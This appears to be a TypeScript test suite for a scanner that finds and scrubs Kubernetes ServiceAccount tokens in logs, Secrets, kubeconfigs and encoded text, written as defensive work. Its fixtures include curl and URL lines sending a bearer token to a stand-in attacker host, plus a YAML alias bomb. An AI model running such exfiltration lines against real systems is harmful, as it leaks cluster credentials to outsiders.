// Whether tokens are found in, and scrubbed from, everything that a scanner or a person may send.
import { randomBytes } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { readClaims } from '../../../src/domain/token/claims.ts';
import { findTokens, scrub } from '../../../src/domain/token/leak-material.ts';
import { base64, boundToken, jwt, legacyPayload, legacyToken, unsignedJwt, wrap } from './token-samples.ts';

const token = legacyToken();
const elliptic = boundToken('ES256');

const secret = (data: Record<string, string>, extra: Record<string, unknown> = {}) => ({
  apiVersion: 'v1',
  kind: 'Secret',
  type: 'kubernetes.io/service-account-token',
  metadata: {
    name: 'eomer-token-x7k2p',
    namespace: 'rohan',
    annotations: { 'kubernetes.io/service-account.name': 'eomer' },
  },
  data,
  ...extra,
});
const certificate = base64(`-----BEGIN CERTIFICATE-----\n${wrap(randomBytes(600).toString('base64'), 64)}\n`);
const tokenSecret = secret({ 'ca.crt': certificate, namespace: base64('rohan'), token: base64(token) });
const kubeconfig = (user: Record<string, string>) => ({
  apiVersion: 'v1',
  kind: 'Config',
  clusters: [
    {
      name: 'c',
      cluster: { server: 'https://attacker.example:6443', 'certificate-authority-data': certificate },
    },
  ],
  users: [{ name: 'u', user }],
  contexts: [{ name: 'x', context: { cluster: 'c', user: 'u', namespace: 'rohan' } }],
});
const config = kubeconfig({ token });

const carriers: [string, string][] = [
  ['alone', token],
  ['in a sentence', `we found ${token} in the log, please help`],
  ['in quotes', `token: "${token}",`],
  ['in single quotes', `'${token}'`],
  ['as a header', `curl -H "Authorization: Bearer ${token}" https://attacker.example`],
  ['in a query', `https://attacker.example/?access_token=${token}&x=1`],
  ['in a shell assignment', `export TOKEN=${token}; kubectl get pods`],
  ['at the end of a path', `https://attacker.example/log/${token}`],
  ['at the end of a sentence', `The token is ${token}.`],
  ['in JSON in JSON', JSON.stringify(JSON.stringify({ token }))],
  ['in colours', `\x1b[31m${token.replace('.', '\x1b[1m.\x1b[0m')}\x1b[0m`],
  ['with invisible marks', token.replaceAll('.', '\u200b.\u200b')],
  ['with encoded dots', `https://attacker.example/?t=${token.replaceAll('.', '%2E')}&x=1`],
  ['with dots as entities', token.replaceAll('.', '&#46;')],
  ['wrapped at 64', wrap(token, 64)],
  ['wrapped at 12', wrap(token, 12)],
  ['wrapped with its command, by a log', wrap(`+ kubectl --server https://x --token ${token} get pods`, 80)],
  [
    'wrapped, with the time before each line',
    wrap(`+ kubectl --token ${token} get pods`, 80)
      .split('\n')
      .map((line, i) => `2026-11-30T03:00:0${i % 10}.0000000Z ${line}`)
      .join('\n'),
  ],
  ['wrapped at 76 and indented', `token:\n${wrap(token, 76, '    ')}\nkind: Secret`],
  ['wrapped at 80, quoted in a mail', wrap(token, 80, '> ')],
  ['wrapped, with Windows line ends', wrap(token, 70).replaceAll('\n', '\r\n')],
  ['wrapped, before more words', `${wrap(token, 76)}\nthanks\nbye`],
  ['wrapped, in JSON', JSON.stringify({ text: `look:\n${wrap(token, 76)}\nthanks` })],
  ['before a long line of base64', `${token}\n${randomBytes(900).toString('base64')}`],
  ['in base64', base64(token)],
  ['in base64 with a line end', base64(`${token}\n`)],
  ['in base64 after a path', `/tmp/x/${base64(token)}`],
  ['in base64, wrapped', wrap(base64(token), 76)],
  ['in base64, before more words', `${wrap(base64(token), 76)}\nthanks`],
  ['in base64 of base64', base64(base64(token))],
  ['in base64 of wrapped base64', wrap(base64(wrap(base64(token), 76)), 76)],
  ['in base64url', Buffer.from(`here: ${token}`).toString('base64url')],
  ['in a Secret, YAML', stringify(tokenSecret)],
  ['in a Secret, YAML that wraps', stringify(tokenSecret, { lineWidth: 60 })],
  ['in a Secret, JSON', JSON.stringify(tokenSecret, null, 2)],
  ['in a Secret, base64', base64(stringify(tokenSecret))],
  ['in stringData', stringify(secret({}, { stringData: { token } }), { lineWidth: 40 })],
  [
    'in a List',
    JSON.stringify({ apiVersion: 'v1', kind: 'List', items: [{ kind: 'ConfigMap' }, tokenSecret] }),
  ],
  ['in a kubeconfig, YAML', stringify(config)],
  ['in a kubeconfig, folded', stringify(config, { lineWidth: 40, defaultStringType: 'QUOTE_DOUBLE' })],
  ['in a kubeconfig, JSON', JSON.stringify(config)],
  ['in a kubeconfig, base64', base64(stringify(config))],
  ['in a kubeconfig, wrapped base64', wrap(base64(stringify(config)), 76)],
  ['in a kubeconfig in a Secret', stringify(secret({ kubeconfig: base64(stringify(config)) }))],
  [
    'folded over lines in YAML',
    `apiVersion: v1\nkind: Secret\nstringData:\n  token: >-\n${wrap(token, 50, '    ')}\n`,
  ],
];

describe('findTokens', () => {
  it.each(carriers)('finds a token %s', (_, text) => {
    expect(findTokens(text).tokens).toEqual([token]);
  });

  it.each(['RS256', 'ES256', 'ES384', 'ES512'] as const)('finds %s tokens', (alg) => {
    const one = boundToken(alg);
    expect(findTokens(wrap(one, 76)).tokens).toEqual([one]);
    expect(findTokens(`${one} and ${base64(one)}`).tokens).toEqual([one]);
  });

  it.each([384, 512])('finds a token with an RSA signature of %d bytes, wrapped', (bytes) => {
    const long = unsignedJwt(legacyPayload(), { alg: 'RS256', kid: 'k' }, bytes);
    for (const width of [40, 64, 76, 80, 120]) expect(findTokens(wrap(long, width)).tokens).toEqual([long]);
  });

  it('finds several, one on each line, each once', () => {
    expect(findTokens([token, elliptic, token].join('\n')).tokens).toEqual([token, elliptic]);
  });

  it('returns at most 20', () => {
    const many = Array.from({ length: 30 }, () => unsignedJwt(legacyPayload(), { alg: 'ES256' }, 64));
    expect(findTokens(many.join('\n')).tokens).toEqual(many.slice(0, 20));
  });

  it('never returns the address in a kubeconfig', () => {
    expect(JSON.stringify(findTokens(stringify(config)))).not.toContain('attacker');
  });

  it('says why something that looks like a token is none', () => {
    const found = findTokens(`id_token=${jwt({ iss: 'https://login.example', sub: 'arwen' })}`);
    expect(found).toMatchObject({
      tokens: [],
      problems: [expect.stringContaining('not of a Kubernetes ServiceAccount')],
    });
    const cutOff = `${wrap(token.slice(0, -30), 64)}\nand here\nthe story\ngoes on\nfor a while\nlonger`;
    expect(findTokens(cutOff)).toMatchObject({ tokens: [], problems: [expect.stringContaining('cut off')] });
    expect(findTokens(token.slice(0, -30)).problems).toEqual([expect.stringContaining('cut off')]);
  });

  it('names the Secret where its token was taken out', () => {
    const at = { namespace: 'rohan', secret: 'eomer-token-x7k2p', serviceAccount: 'eomer' };
    expect(findTokens(stringify(secret({ token: 'UkVEQUNURUQ=' })))).toMatchObject({
      tokens: [],
      coordinates: [at],
    });
    expect(findTokens(JSON.stringify(secret({ token: '***' }))).coordinates).toEqual([at]);
    expect(findTokens(stringify(tokenSecret)).coordinates).toEqual([]);
  });

  it.each([
    ['a path as name', { metadata: { name: '../x', namespace: 'rohan' } }],
    ['a path as namespace', { metadata: { name: 'x', namespace: 'a/b' } }],
    ['no namespace', { metadata: { name: 'x' } }],
    ['another type', { type: 'Opaque' }],
  ])('names nothing that has %s', (_, extra) => {
    expect(findTokens(stringify(secret({}, extra))).coordinates).toEqual([]);
  });

  it('counts credentials that are no ServiceAccount tokens', () => {
    const openshift = `sha256~${randomBytes(32).toString('base64url')}`;
    expect(findTokens(`oc login --token=${openshift}`).opaque).toBe(1);
    expect(
      findTokens(base64(`export TOKEN=${openshift} and then something more, to be long enough for a scan`))
        .opaque,
    ).toBe(1);
    expect(findTokens(stringify(kubeconfig({ token: openshift }))).opaque).toBe(1);
    expect(findTokens(stringify(kubeconfig({ token: 'static-token-file-entry' }))).opaque).toBe(1);
    expect(findTokens(stringify(kubeconfig({ 'client-key-data': certificate }))).opaque).toBe(1);
    expect(findTokens('abcdef.0123456789abcdef').opaque).toBe(1);
    expect(findTokens(stringify(config)).opaque).toBe(0);
    expect(findTokens('nothing.of.interest at all').opaque).toBe(0);
  });

  it('is not multiplied by YAML aliases', () => {
    const lines = ['a0: &a0 [x, x]'];
    for (let i = 1; i < 40; i++) lines.push(`a${i}: &a${i} [*a${i - 1}, *a${i - 1}, *a${i - 1}]`);
    const bomb = ['apiVersion: v1', 'kind: Secret', ...lines, `token: ${token}`].join('\n');
    expect(findTokens(bomb).tokens).toEqual([token]);
  });

  it('finds what stands behind a manifest that cannot be parsed', () => {
    const deep = `apiVersion: v1\nkind: Secret\ndata: ${'['.repeat(150)}`;
    expect(findTokens(`${deep}\n${token}`).tokens).toEqual([token]);
  });

  it.each<[string, (levels: number) => string, number]>([
    ['brackets in one line', (levels) => `${'['.repeat(levels)}${']'.repeat(levels)}`, 30],
    ['brackets, each on a line of its own', (levels) => `${'[\n '.repeat(levels)}${'] '.repeat(levels)}`, 30],
    ['braces', (levels) => `${'{a: '.repeat(levels)}1${'}'.repeat(levels)}`, 30],
    ['lists that begin in one line', (levels) => `\n  ${'- '.repeat(levels)}x`, 7],
    ['keys of keys that begin in one line', (levels) => `\n  ${'? '.repeat(levels)}x`, 7],
  ])('does not parse what is nested more deeply than any manifest: %s', (_, nested, most) => {
    const manifest = (levels: number) =>
      `apiVersion: v1\nkind: Secret\ntype: kubernetes.io/service-account-token\nmetadata:\n  name: eomer-token-x7k2p\n  namespace: rohan\nextra: ${nested(levels)}\n`;
    expect(findTokens(manifest(most)).coordinates).toHaveLength(1);
    expect(findTokens(manifest(most + 1)).coordinates).toEqual([]);
    expect(findTokens(`${manifest(most + 1)}# ${token}\n`).tokens).toEqual([token]);
  });

  it('survives anything', () => {
    const words = fc.constantFrom(
      'apiVersion: v1\n',
      'kind: Secret\n',
      'eyJ',
      'ZXlK',
      '.',
      '=',
      '\n',
      token,
      '&a',
      '*a',
      ': ',
      '- ',
    );
    fc.assert(
      fc.property(
        fc.oneof(
          fc.uint8Array().map((bytes) => Buffer.from(bytes).toString('latin1')),
          fc.array(fc.oneof(words, fc.string())).map((parts) => parts.join('')),
        ),
        (text) => {
          expect(findTokens(text).tokens.every((found) => !('problem' in readClaims(found)))).toBe(true);
        },
      ),
    );
  });
});

describe('scrub', () => {
  it.each(carriers)('removes a token %s', (_, text) => {
    const clean = scrub(text);
    expect(clean).toContain('[token removed]');
    expect(findTokens(clean).tokens).toEqual([]);
    const signature = token.split('.')[2] ?? '';
    expect(clean).not.toContain(signature.slice(-30));
  });

  it('keeps what is around it', () => {
    expect(scrub(`curl -H "Authorization: Bearer ${token}" https://api.example/x`)).toBe(
      'curl -H "Authorization: Bearer [token removed]" https://api.example/x',
    );
    expect(scrub(`?access_token=${token}&x=1`)).toBe('?access_token=[token removed]&x=1');
  });

  it('removes a token whose signature is cut off', () => {
    expect(scrub(`see ${token.slice(0, -100)}…`)).toBe('see [token removed]…');
  });

  it.each([
    'nothing to hide',
    'commit 4f1d3c2b5a69788796a5b4c3d2e1f00112233445 in rohan/mark/deploy.yaml',
    'https://git.example/rohan/mark/-/blob/main/charts/very-long-path/values.production.yaml#L10-20',
    `sha256:${'ab'.repeat(32)}`,
    'eyJ is how tokens begin',
  ])('leaves %j alone', (text) => {
    expect(scrub(text)).toBe(text);
  });

  it('leaves nothing that readClaims accepts', () => {
    const noise = fc.oneof(
      fc.string(),
      fc.base64String(),
      fc.constantFrom('eyJ', '.', '=', '/', '\n', 'a.b', token, elliptic, base64(token)),
    );
    const around = fc.array(noise).map((parts) => parts.join(''));
    fc.assert(
      fc.property(around, around, (before, after) => {
        const clean = scrub(`${before}${elliptic}${after}`);
        expect(findTokens(clean).tokens).toEqual([]);
        for (const word of clean.split(/[^\w.-]+/)) expect(readClaims(word)).toHaveProperty('problem');
      }),
    );
  });
});
